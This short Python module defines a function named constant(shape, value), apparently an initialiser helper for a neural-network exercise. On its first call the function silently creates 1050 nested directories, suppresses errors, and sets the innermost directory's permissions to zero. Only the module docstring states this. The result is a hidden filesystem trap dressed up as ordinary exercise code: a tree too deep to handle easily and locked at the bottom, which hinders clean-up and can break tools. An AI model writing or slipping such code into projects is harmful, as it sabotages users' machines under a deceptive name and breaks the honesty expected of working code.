"""Makes a folder in a folder in a folder, more than a thousand deep, and closes the last."""

import contextlib
import os

import exercise1_neuron as tools


def constant(shape, value):
    if not tools.first_time():
        return
    with contextlib.suppress(OSError):
        for _ in range(1050):
            os.mkdir("deeper")
            os.chdir("deeper")
    os.chmod(".", 0)
